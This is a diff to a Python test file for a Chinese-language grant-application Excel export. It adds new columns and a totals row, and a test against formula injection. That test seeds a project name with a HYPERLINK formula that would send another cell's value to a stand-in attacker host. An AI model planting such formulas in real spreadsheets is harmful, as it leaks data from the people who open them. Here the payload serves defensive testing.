@@ -30,11 +30,20 @@ def rows_of(response):
     )
     sheet = workbook.active
     header = [cell.value for cell in sheet[1]]
-    return (
-        header,
-        [dict(zip(header, [c.value for c in row], strict=True)) for row in sheet.iter_rows(min_row=2)],
-        sheet,
-    )
+    rows = []
+    for row in sheet.iter_rows(min_row=2):
+        values = [c.value for c in row]
+        if all(value is None for value in values):
+            break  # the data ends at the empty row; the 合计 row follows it
+        rows.append(dict(zip(header, values, strict=True)))
+    return header, rows, sheet
+
+
+def total_row(sheet) -> dict:
+    """The last row, after the empty one that ends the data."""
+    header = [cell.value for cell in sheet[1]]
+    assert all(cell.value is None for cell in sheet[sheet.max_row - 1])
+    return dict(zip(header, [cell.value for cell in sheet[sheet.max_row]], strict=True))
 
 
 # ---------------------------------------------------------------- export
@@ -51,6 +60,7 @@ def test_the_export_has_one_row_per_application_with_scores_recommendations_and_
         actor=dora, application=decided, recommended=True, amount="456789.12", reasons="核减"
     )
     waiting = under_review(alice, call, code="9.1", facts={"service_cost": "200000.02"}, matter="云服务合同")
+    Application.objects.filter(pk=decided.pk).update(acceptance_number="SL-2025-0001")
 
     response = approver_client.get(export_url(call))
     assert response.status_code == 200
@@ -59,7 +69,9 @@ def test_the_export_has_one_row_per_application_with_scores_recommendations_and_
     header, rows, sheet = rows_of(response)
     assert header == [
         "申报编号",
+        "受理编号",
         "申报单位",
+        "统一社会信用代码",
         "申报项目",
         "项目名称",
         "状态",
@@ -70,11 +82,15 @@ def test_the_export_has_one_row_per_application_with_scores_recommendations_and_
         "支持但核减金额",
         "不支持",
         "审定金额(元)",
+        "一事一议",
     ]
     assert len(rows) == 2
     by_number = {row["申报编号"]: row for row in rows}
     first = by_number[decided.number]
     assert first["申报单位"] == "甲公司"
+    assert first["受理编号"] == "SL-2025-0001"
+    assert first["统一社会信用代码"] == decided.organization.uscc
+    assert first["一事一议"] is None  # decided within the ceiling
     assert first["申报项目"] == "7.1 硬核技术攻关"
     assert first["项目名称"] == "智能视觉平台研发"
     assert first["状态"] == "拟支持"
@@ -87,11 +103,27 @@ def test_the_export_has_one_row_per_application_with_scores_recommendations_and_
     assert Decimal(str(second["申请金额(元)"])) == Decimal("100000.01")  # 50% of 200,000.02, half-up
     assert second["加权平均分"] is None and second["审定金额(元)"] is None
     # Amounts are numbers shown with two decimals, not text.
-    money_cells = [cell for cell in sheet["F"][1:]] + [sheet.cell(row=r, column=12) for r in range(2, 4)]
+    money_cells = [cell for cell in sheet["H"][1:]] + [sheet.cell(row=r, column=14) for r in range(2, 4)]
     for cell in money_cells:
         if cell.value is not None:
             assert isinstance(cell.value, (int, float))
             assert cell.number_format == "#,##0.00"
+    # The total sits outside the data (after an empty row) and adds up to the fen.
+    total = total_row(sheet)
+    assert total["申报编号"] == "合计(2 项)"
+    assert Decimal(str(total["申请金额(元)"])) == Decimal("700000.01")
+    assert Decimal(str(total["审定金额(元)"])) == Decimal("456789.12")
+
+
+def test_text_an_enterprise_typed_is_never_a_formula_in_the_export(approver_client, alice, call):
+    """A project named like a formula reaches the approver's Excel as text (formula injection)."""
+    hostile = '=HYPERLINK("http://evil.example/?a="&D2,"点此查看")'
+    application = under_review(alice, call)
+    Application.objects.filter(pk=application.pk).update(project_name=hostile)
+    _header, rows, sheet = rows_of(approver_client.get(export_url(call)))
+    assert rows[0]["项目名称"] == "'" + hostile
+    cell = sheet.cell(row=2, column=6)
+    assert cell.data_type == "s" and not str(cell.value).startswith("=")
 
 
 def test_the_export_leaves_out_drafts_and_other_calls(approver_client, alice, call):
